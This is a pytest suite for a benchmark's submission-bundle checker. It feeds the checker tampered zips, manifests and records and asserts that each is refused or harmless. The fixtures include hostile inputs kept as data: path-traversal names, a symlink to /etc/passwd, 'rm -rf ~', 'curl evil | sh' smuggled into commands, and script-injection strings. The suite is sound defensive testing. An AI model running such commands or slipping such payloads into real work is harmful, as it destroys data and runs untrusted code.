"""A valid bundle changed in well over a hundred ways: each is refused in one line a file, or does no harm."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import struct
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from blurbench.board.outcomes import outcomes_of
from blurbench.board.render import markdown
from blurbench.board.standings import standings
from blurbench.registry import Registry
from blurbench.store.store import Store
from blurbench.submissions.bundle import MOST_BYTES
from blurbench.submissions.check import check as check_submission
from blurbench.submissions.installation import Installation
from blurbench.submissions.merge import gather, merge
from blurbench.submissions.submission import Submission, open_submission

BOARD = "smoke.v1.quick"
ROWS = {("plain", ""), ("retrain", "gaussian-2")}


# --- a small valid bundle -------------------------------------------------------------------------------------------


@dataclass
class Parcel:
    """A bundle taken apart; `zipped` puts it together again, checksums included."""

    manifest: Any
    files: dict[str, bytes]
    sums: dict[str, str] = field(default_factory=dict)
    """Checksums to be stated instead of the right ones."""

    def record(self, strategy: str = "plain") -> tuple[str, dict[str, Any]]:
        """The record of a strategy under blur."""
        records = {name: json.loads(text) for name, text in self.files.items() if name.startswith("records/")}
        return next(
            (name, record)
            for name, record in records.items()
            if record["axes"]["strategy"]["name"] == strategy and record["axes"]["test_blur"]["name"] == "gaussian"
        )

    def timing(self) -> tuple[str, dict[str, Any]]:
        name = next(name for name in sorted(self.files) if name.startswith("timings/"))
        return name, json.loads(self.files[name])

    def put(self, name: str, content: Any) -> None:
        self.files[name] = json.dumps(content).encode()

    def zipped(self) -> bytes:
        right = {name: hashlib.sha256(content).hexdigest() for name, content in self.files.items()}
        manifest = self.manifest
        if isinstance(manifest, dict) and "files" in manifest:
            manifest = {**manifest, "files": {**right, **self.sums}}
        text = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
        return zip_of([("manifest.json", text), *self.files.items()])


def zip_of(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries:
            packed.writestr(name, content)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def origin(smoked: Path, tmp_path_factory: pytest.TempPathFactory) -> Store:
    """The results of two rows on the smoke board."""
    root = tmp_path_factory.mktemp("origin") / "results"
    shutil.copytree(smoked, root)
    store = Store(root)
    manifest = store.records.board(BOARD)
    assert manifest is not None
    lines = [
        line
        for line in manifest.lines
        if (line["strategy"], line["train_blur"]) in ROWS
        and line["test_blur"] != "gaussian-2-sensor"
        and "cnn3" in line["classifier"]
    ]
    store.records.put_board(BOARD, manifest.model_copy(update={"lines": lines}))
    return store


@pytest.fixture(scope="module")
def valid(origin: Store) -> bytes:
    return gather(origin, BOARD).pack()


@pytest.fixture
def parcel(valid: bytes) -> Parcel:
    return taken_apart(valid)


def taken_apart(bundle: bytes) -> Parcel:
    with zipfile.ZipFile(io.BytesIO(bundle)) as packed:
        files = {name: packed.read(name) for name in packed.namelist()}
    return Parcel(json.loads(files.pop("manifest.json")), files)


@pytest.fixture(scope="module")
def known(registry: Registry, origin: Store) -> Installation:
    return Installation(registry, origin, ())


@pytest.fixture
def judge(known: Installation, tmp_path: Path) -> Callable[[bytes], Submission]:
    return partial(judged, known, tmp_path)


def judged(known: Installation, folder: Path, content: bytes) -> Submission:
    """What is believed of the bytes of a bundle."""
    path = folder / "bundle.zip"
    path.write_bytes(content)
    held = open_submission(path)
    check_submission(held, known)
    return held


@pytest.fixture(scope="module")
def believed(valid: bytes, known: Installation, tmp_path_factory: pytest.TempPathFactory) -> Submission:
    """What the unchanged bundle is believed to hold."""
    path = tmp_path_factory.mktemp("valid") / "bundle.zip"
    path.write_bytes(valid)
    held = open_submission(path)
    assert check_submission(held, known) == []
    return held


def rendered(held: Submission, root: Path) -> str:
    """The board of a new results folder into which a bundle was merged."""
    store = Store(root)
    store.create()
    merged = merge(held, store)
    assert merged is not None
    assert {path.name for path in (root / "boards").iterdir()} == {f"{BOARD}.json"}
    manifest = store.records.board(merged.board)
    assert manifest is not None
    records = {line.key: record for line in manifest.lines if (record := store.records.get(line.key))}
    return markdown.render(standings(outcomes_of(manifest, records, {})))


def test_the_bundle_itself_is_believed_and_gives_the_same_board(
    valid: bytes, judge: Callable[[bytes], Submission], origin: Store, tmp_path: Path
) -> None:
    held = judge(valid)
    assert held.refusals == []
    manifest = origin.records.board(BOARD)
    assert manifest is not None
    assert len(held.records) == len(manifest.lines) == 4
    records = {line.key: record for line in manifest.lines if (record := origin.records.get(line.key))}
    assert rendered(held, tmp_path / "other") == markdown.render(standings(outcomes_of(manifest, records, {})))


# --- changes of the zip file ----------------------------------------------------------------------------------------


def with_entry(parcel: Parcel, name: str, content: bytes = b"{}", **attributes: Any) -> bytes:
    """The valid bundle, with one more entry."""
    entry = zipfile.ZipInfo("placeholder")
    entry.filename = name
    entry.compress_type = zipfile.ZIP_DEFLATED
    for attribute, value in attributes.items():
        setattr(entry, attribute, value)
    with zipfile.ZipFile(io.BytesIO(parcel.zipped())) as packed:
        entries: list[Any] = [(old.filename, packed.read(old)) for old in packed.infolist()]
    return zip_of([*entries, (entry, content)])


def twice(parcel: Parcel) -> bytes:
    name, record = parcel.record()
    with pytest.warns(UserWarning, match="Duplicate name"):
        return with_entry(parcel, name, json.dumps({**record, "seed": 7}).encode())


def flipped(parcel: Parcel, tenth: int) -> bytes:
    content = bytearray(parcel.zipped())
    content[len(content) * tenth // 40] ^= 0x55
    return bytes(content)


def truncated(parcel: Parcel, tenth: int) -> bytes:
    content = parcel.zipped()
    return content[: len(content) * tenth // 10]


def with_count(parcel: Parcel, count: int, size: int) -> bytes:
    """A directory that claims so many entries."""
    content = bytearray(parcel.zipped())
    content[-12:-6] = struct.pack("<HL", count, size)
    return bytes(content)


def encrypted(parcel: Parcel) -> bytes:
    content = bytearray(parcel.zipped())
    content[content.rfind(b"PK\1\2") + 8] |= 1
    return bytes(content)


ZIPS: dict[str, Callable[[Parcel], bytes]] = {
    "nothing": lambda parcel: b"",
    "text": lambda parcel: b"not a zip file",
    "an empty zip": lambda parcel: zip_of([]),
    "no manifest": lambda parcel: zip_of(list(parcel.files.items())),
    "a bomb": partial(with_entry, name="records/" + "ab" * 16 + ".json", content=b"0" * (MOST_BYTES + 1)),
    "a path upwards": partial(with_entry, name="../evil.json"),
    "a path upwards inside": partial(with_entry, name="records/../../evil.json"),
    "an absolute path": partial(with_entry, name="/etc/cron.d/evil.json"),
    "a drive": partial(with_entry, name="C:\\evil.json"),
    "backslashes": partial(with_entry, name="records\\..\\evil.json"),
    "a folder": partial(with_entry, name="records/", content=b""),
    "another file": partial(with_entry, name="install.sh", content=b"rm -rf ~"),
    "a record that is not listed": partial(with_entry, name="records/" + "ab" * 16 + ".json"),
    "a name in capitals": partial(with_entry, name="records/" + "AB" * 16 + ".json"),
    "a name with a line break": partial(with_entry, name="records/" + "ab" * 16 + ".json\n"),
    "a name with an escape": partial(with_entry, name="\x1b[2J.json"),
    "a name that ends early": partial(with_entry, name="records/" + "ab" * 16 + ".json\0.sh"),
    "a very long name": partial(with_entry, name="records/" + "a" * 60_000 + ".json"),
    "a symbolic link": partial(
        with_entry,
        name="records/" + "ab" * 16 + ".json",
        content=b"/etc/passwd",
        external_attr=0o120777 << 16,
        create_system=3,
    ),
    "lzma": partial(with_entry, name="records/" + "ab" * 16 + ".json", compress_type=zipfile.ZIP_LZMA),
    "a name twice": twice,
    "encrypted": encrypted,
    "too many entries claimed": partial(with_count, count=0xFFFF, size=100),
    "a huge directory claimed": partial(with_count, count=4, size=2**31),
    "bytes before it": lambda parcel: b"#!/bin/sh\nexit\n" + parcel.zipped(),
    "bytes behind it": lambda parcel: parcel.zipped() + b"x" * 1000,
    **{f"truncated to {tenth}/10": partial(truncated, tenth=tenth) for tenth in (1, 3, 5, 7, 9)},
    **{f"a byte changed at {place}/40": partial(flipped, tenth=place) for place in range(40)},
}


@pytest.mark.parametrize("name", ZIPS)
def test_a_changed_zip_file(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], believed: Submission, tmp_path: Path
) -> None:
    check(judge(ZIPS[name](parcel)), tmp_path, believed)
    assert not list(tmp_path.rglob("evil*"))


# --- changes of the manifest and of records, with right checksums ---------------------------------------------------


def at(content: Any, path: tuple[Any, ...], value: Any) -> Any:
    """A copy of nested JSON with one place changed; a function as value is called with what is there."""
    copy = deepcopy(content)
    inner = copy
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = (
        value(inner.get(path[-1]) if isinstance(inner, dict) else inner[path[-1]]) if callable(value) else value
    )
    return copy


def deep(levels: int) -> Any:
    content: Any = {}
    for _ in range(levels):
        content = {"a": content}
    return content


EVIL = "<script>alert(1)</script>\x1b[31m|`](javascript:x)"

MANIFESTS: dict[str, tuple[tuple[Any, ...], Any]] = {
    "a suite that climbs": (("board", "suite"), "../../evil"),
    "a suite with an escape": (("board", "suite"), EVIL),
    "an empty suite": (("board", "suite"), ""),
    "another version": (("board", "suite_version"), -1),
    "a version that is text": (("board", "suite_version"), "1"),
    "an unknown budget": (("board", "budget"), "huge"),
    "a budget that climbs": (("board", "budget"), "quick/../../evil"),
    "a budget with a line break": (("board", "budget"), "quick\n# heading"),
    "other budget values": (("board", "budget_values", "train_images"), 60_000),
    "endless budget values": (("board", "budget_values", "train_images"), deep(50)),
    "another content": (("board", "content"), "cd" * 16),
    "a content that is no key": (("board", "content"), "../evil"),
    "another baseline": (("board", "baseline"), "retrain"),
    "a title with an escape": (("board", "title"), EVIL),
    "a title of a megabyte": (("board", "title"), "x" * 2**20),
    "no test blurs": (("board", "test_blurs"), []),
    "a command of a stranger": (("board", "commands"), ["rm -rf ~"]),
    "a command with a second one": (("board", "commands"), ["blurbench run; curl evil | sh"]),
    "a command with a second one at its end": (("board", "commands"), ["blurbench run --suite smoke; curl evil | sh"]),
    "a command with a substitution": (("board", "commands"), ["blurbench run --suite $(reboot)"]),
    "a command with a line break": (("board", "commands"), ["blurbench run\nreboot"]),
    "a command of another kind": (("board", "commands"), ["blurbench data fetch mnist"]),
    "a seed that is not the record's": (("board", "lines", 0, "seed"), 5),
    "a line under another strategy": (("board", "lines", 0, "labels", "strategy"), "blur-augment"),
    "a line under an unknown strategy": (("board", "lines", 0, "labels", "strategy"), "miracle"),
    "a line under another data set": (("board", "lines", 0, "labels", "dataset"), "mnist"),
    "a line under another classifier": (("board", "lines", 0, "labels", "classifier"), "vit"),
    "a line under an unlisted blur": (("board", "lines", 0, "labels", "test_blur"), "defocus"),
    "a line without its training blur": (("board", "lines", -1, "labels", "train_blur"), ""),
    "a line with an escape": (("board", "lines", 0, "labels", "strategy"), EVIL),
    "a line of another key": (("board", "lines", 0, "key"), "ab" * 16),
    "a line twice": (("board", "lines"), lambda lines: [*lines, lines[0]]),
    "keys of two lines exchanged": (
        ("board", "lines"),
        lambda lines: [{**lines[0], "key": lines[1]["key"]}, {**lines[1], "key": lines[0]["key"]}, *lines[2:]],
    ),
    "two lines at one place": (("board", "lines"), lambda lines: [*lines, {**lines[0], "key": "ab" * 16}]),
    "no lines": (("board", "lines"), []),
    "lines that are text": (("board", "lines"), "all"),
    "an unknown key": (("board", "surprise"), 1),
    "another format": (("format",), "blurbench bundle 9"),
    "another measure": (("board", "measure"), "blur-estimation"),
    "labels in another order": (("board", "lines", 0, "labels"), lambda labels: dict(reversed(labels.items()))),
    "a label too many": (("board", "lines", 0, "labels", "surprise"), "x"),
    "an endless environment": (("environments",), [deep(100)]),
    "an environment with an escape": (("environments",), [{"device": EVIL}]),
    "a thousand environments too many": (("environments",), [{}] * 2000),
    "another schema": (("board", "schema_version"), 3),
    "NaN": (("board", "suite_version"), float("nan")),
}


@pytest.mark.parametrize("name", MANIFESTS)
def test_a_changed_manifest(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], believed: Submission, tmp_path: Path
) -> None:
    path, value = MANIFESTS[name]
    parcel.manifest = at(parcel.manifest, path, value)
    check(judge(parcel.zipped()), tmp_path, believed)


def half(values: list[int]) -> list[int]:
    return [value if number % 2 else (value + 1) % 10 for number, value in enumerate(values)]


RECORDS: dict[str, tuple[tuple[Any, ...], Any]] = {
    "another key": (("key",), "ab" * 16),
    "a key that climbs": (("key",), "../../evil"),
    "a better top1": (("result", "metrics", "top1"), 0.99),
    "top1 above 1": (("result", "metrics", "top1"), 1.5),
    "a top5 below top1": (("result", "metrics", "top5"), 0.0),
    "a better calibration": (("result", "metrics", "calibration_error"), 0.0),
    "a log loss that its confidences rule out": (("result", "metrics", "log_loss"), 1e-4),
    "a negative log loss": (("result", "metrics", "log_loss"), -0.1),
    "a better Brier score": (("result", "metrics", "brier"), 0.0),
    "a count of images": (("result", "metrics", "n"), 99),
    "a negative error": (("result", "metrics", "blurred_mse"), -1),
    "a PSNR that cannot be": (("result", "metrics", "blurred_psnr"), 5),
    "a PSNR without end": (("result", "metrics", "blurred_psnr"), 1e300),
    "an SSIM above 1": (("result", "metrics", "blurred_ssim"), 3),
    "half of an image measure": (("result", "metrics", "restored_mse"), 0.1),
    "an observation that is NaN": (("result", "metrics", "observations"), {"x": float("nan")}),
    "an observation with an escape": (("result", "metrics", "observations"), {EVIL: 1}),
    "infinity": (("result", "metrics", "blurred_psnr"), float("inf")),
    "other predictions": (("result", "images", "predicted"), half),
    "predictions beyond the classes": (("result", "images", "predicted", 0), 10),
    "a prediction that is text": (("result", "images", "predicted", 0), "three"),
    "a negative label": (("result", "images", "label", 0), -1),
    "too few labels": (("result", "images", "label"), lambda labels: labels[1:]),
    "a confidence above 1": (("result", "images", "confidence", 0), 1.01),
    "confidences of a coin": (("result", "images", "confidence"), lambda values: [0.01] * len(values)),
    "a confidence that is null": (("result", "images", "confidence", 0), None),
    "no images": (
        (
            "result",
            "images",
        ),
        None,
    ),
    "another fingerprint": (("data_fingerprint",), "ab" * 32),
    "no fingerprint": (("data_fingerprint",), ""),
    "an oracle that says it is none": (
        (
            "facts",
            "knows",
        ),
        "true PSF",
    ),
    "knowing nothing": (
        (
            "facts",
            "knows",
        ),
        "training blur",
    ),
    "requiring nothing": (
        (
            "facts",
            "requires",
        ),
        [],
    ),
    "requiring a payment": (
        (
            "facts",
            "requires",
        ),
        [EVIL],
    ),
    "another exposure": (
        (
            "facts",
            "exposure",
        ),
        "seen",
    ),
    "images of another shape": (
        (
            "result",
            "image_shape",
        ),
        [3, 16, 16],
    ),
    "another unit": (
        (
            "result",
            "test_blur_units",
        ),
        {"sigma": "miles"},
    ),
    "a negative error of one image": (
        ("result", "images", "blurred_mse"),
        lambda values: [-1.0, values[0] + values[1] + 1.0, *values[2:]],
    ),
    "another seed": (("seed",), 3),
    "a negative seed": (("seed",), -1),
    "another budget": (("budget", "train_images"), 10),
    "a budget with more": (("budget", "surprise"), 1),
    "an endless budget": (("budget", "train_images"), deep(150)),
    "an unknown plugin": (("axes", "classifier", "config", "name"), "secret-net"),
    "an unknown data set": (("axes", "dataset", "config", "name"), "secret-set"),
    "a plugin that climbs": (("axes", "strategy", "config", "name"), "../../evil"),
    "another revision": (("axes", "dataset", "config", "revision"), 99),
    "another width": (("axes", "classifier", "config", "widths"), [64, 128, 256]),
    "a parameter too many": (("axes", "classifier", "config", "surprise"), 1),
    "a parameter out of range": (("axes", "classifier", "config", "widths"), [-1]),
    "an endless parameter": (("axes", "classifier", "config", "widths"), deep(150)),
    "another name": (("axes", "classifier", "name"), "vit"),
    "another label": (("axes", "classifier", "label"), "cnn3"),
    "a label with a tag": (("axes", "strategy", "label"), EVIL),
    "a label of a megabyte": (("axes", "strategy", "label"), "x" * 2**20),
    "another test blur": (("axes", "test_blur", "config"), {"name": "none", "revision": 1, "padding": "wrap"}),
    "a parameter count of everything": (("result", "cost", "parameters"), 2**52),
    "negative seconds": (("result", "cost", "fit_seconds"), -1),
    "seconds of ten thousand years": (("result", "cost", "fit_seconds"), 3e11),
    "seconds of ten years": (("result", "cost", "fit_seconds"), 3e8),
    "no time to fit": (("result", "cost", "fit_seconds"), 0),
    "no time to evaluate": (("result", "cost", "evaluate_seconds"), 0),
    "more steps than images": (("result", "cost", "fit_steps"), 10**9),
    "multiply-accumulates without end": (("result", "cost", "macs"), 2**60),
    "a timing that climbs": (("result", "cost", "timing"), "../../evil"),
    "no result": (("result",), None),
    "another measure": (("measure",), "blur-estimation"),
    "a result of another measure": (("result", "measure"), "blur-estimation"),
    "another axis": (("axes", "mood"), {"name": "x", "label": "x", "config": {}}),
    "no test blur": (("axes",), lambda axes: {name: axes[name] for name in axes if name != "test_blur"}),
    "another setting": (("settings",), {"analyses": ["feature-gradients"]}),
    "another test seed": (("test_seed",), 3),
    "one parameter": (("result", "cost", "parameters"), 1),
    "no multiply-accumulates": (("result", "cost", "macs"), 0),
    "a fit of ten microseconds": (("result", "cost", "fit_seconds"), 1e-5),
    "test images of a budget that are text": (("budget", "test_images"), "all"),
    "test images of a budget that are a list": (("budget", "test_images"), [100]),
    "no cost": (("result", "cost"), None),
    "a provenance with an escape": (("provenance", "device"), EVIL),
    "an endless provenance": (("provenance", "deep"), deep(60)),
    "a provenance of a megabyte": (("provenance", "long"), "x" * 2**20),
    "failed": (("status",), "failed"),
    "failed with a reason": ((), {"status": "failed", "reason": EVIL}),
    "skipped": ((), {"status": "skipped", "reason": "no time"}),
    "an unknown status": (("status",), "great"),
    "a log elsewhere": (("log",), "../../../etc/passwd\n"),
    "another schema": (("schema_version",), 9),
    "an unknown key": (("surprise",), {"a": 1}),
    "a number of a thousand digits": (("seed",), 10**1000),
}


@pytest.mark.parametrize("name", RECORDS)
def test_a_changed_record(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], believed: Submission, tmp_path: Path
) -> None:
    file, record = parcel.record()
    path, value = RECORDS[name]
    changed = at(record, path, value) if path else {**record, **value}
    parcel.put(file, changed)
    held = judge(parcel.zipped())
    assert [refusal.file for refusal in held.refusals] == [file]
    check(held, tmp_path, believed)


def test_a_bundle_of_which_all_records_are_of_other_pictures_is_refused(
    parcel: Parcel, judge: Callable[[bytes], Submission]
) -> None:
    records = {name: json.loads(text) for name, text in parcel.files.items() if name.startswith("records/")}
    for name, record in records.items():
        parcel.put(name, {**record, "data_fingerprint": "ab" * 32})
    held = judge(parcel.zipped())
    assert {refusal.file for refusal in held.refusals} == records.keys()
    assert {refusal.reason for refusal in held.refusals} == {
        "data_fingerprint: not that of the data set digits that is here"
    }


def forged_labels(parcel: Parcel) -> None:
    """Labels and predictions changed together, so that the record is right in itself."""
    file, record = parcel.record()
    images = record["result"]["images"]
    images |= {name: half(images[name]) for name in ("label", "predicted")}
    parcel.put(file, record)


def not_utf8(parcel: Parcel) -> None:
    file, _ = parcel.record()
    parcel.files[file] = parcel.files[file].replace(b"digits", b"dig\xff\xfets", 1)


def half_a_sign(parcel: Parcel) -> None:
    file, _ = parcel.record()
    parcel.files[file] = parcel.files[file].replace(b'"digits"', b'"\\ud800"', 1)


def key_twice(parcel: Parcel) -> None:
    file, _ = parcel.record()
    parcel.files[file] = b'{"status": "failed",' + parcel.files[file].lstrip()[1:]


def replaced(parcel: Parcel, content: bytes) -> None:
    file, _ = parcel.record()
    parcel.files[file] = content


def exchanged(parcel: Parcel) -> None:
    (one, _), (other, _) = parcel.record(), parcel.record("retrain")
    parcel.files[one], parcel.files[other] = parcel.files[other], parcel.files[one]


def timing(parcel: Parcel, **changes: Any) -> None:
    name, content = parcel.timing()
    parcel.put(name, {**content, **changes})


def sum_of_another(parcel: Parcel) -> None:
    parcel.sums = {parcel.record()[0]: hashlib.sha256(b"").hexdigest()}


def listed_but_missing(parcel: Parcel) -> None:
    parcel.sums = {"records/" + "ab" * 16 + ".json": "0" * 64}


def listed_elsewhere(parcel: Parcel) -> None:
    parcel.sums = {"../../evil.json": "0" * 64}


def manifest_is(parcel: Parcel, content: Any) -> None:
    parcel.manifest = content


OTHERS: dict[str, Callable[[Parcel], None]] = {
    "forged labels": forged_labels,
    "bytes that are no UTF-8": not_utf8,
    "half a sign": half_a_sign,
    "a key twice": key_twice,
    "two records exchanged": exchanged,
    "a record of nothing": partial(replaced, content=b""),
    "a record that is a list": partial(replaced, content=b"[]"),
    "a record without an end": partial(replaced, content=b"[" * 1_000_000),
    "a record of nested objects": partial(replaced, content=b'{"a":' * 100_000),
    "a wrong checksum": sum_of_another,
    "a file that is listed and missing": listed_but_missing,
    "a listed path that climbs": listed_elsewhere,
    "a timing that is negative": partial(timing, batch_1_ms=-1),
    "a timing of nothing": partial(timing, batch_256_ms=0),
    "a timing with an escape": partial(timing, machine=EVIL),
    "a timing of another key": partial(timing, key="ab" * 16),
    "a timing that is NaN": partial(timing, batch_1_ms=float("nan")),
    "a timing with more": partial(timing, surprise=1),
    "a manifest that is a list": partial(manifest_is, content=[]),
    "a manifest without an end": partial(manifest_is, content=b"[" * 1_000_000),
    "a manifest of null": partial(manifest_is, content=None),
}


@pytest.mark.parametrize("name", OTHERS)
def test_other_changes(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], believed: Submission, tmp_path: Path
) -> None:
    OTHERS[name](parcel)
    check(judge(parcel.zipped()), tmp_path, believed)


def test_there_are_more_than_a_hundred_changes_that_are_not_of_single_bytes() -> None:
    assert len(ZIPS) - 40 + len(MANIFESTS) + len(RECORDS) + len(OTHERS) > 100


# --- what must hold after any change --------------------------------------------------------------------------------


def check(held: Submission, folder: Path, believed: Submission) -> None:
    """Refused, or harmless: what is believed is what was believed of the unchanged bundle."""
    kept = {record.key: record for record in held.records.values()}
    for refusal in held.refusals:
        assert refusal.reason
    assert held.refusals or kept.keys() == {record.key for record in believed.records.values()}
    for record in believed.records.values():
        if record.key in kept:
            assert results(kept[record.key]) == results(record)
    assert kept.keys() <= {record.key for record in believed.records.values()}
    if held.boards:
        text = rendered(held, folder / "merged")
        assert "<script" not in text
        assert "\x1b" not in text


def results(record: Any) -> dict[str, Any]:
    content: dict[str, Any] = record.model_dump(exclude={"provenance": True, "log": True, "result": {"cost"}})
    return content
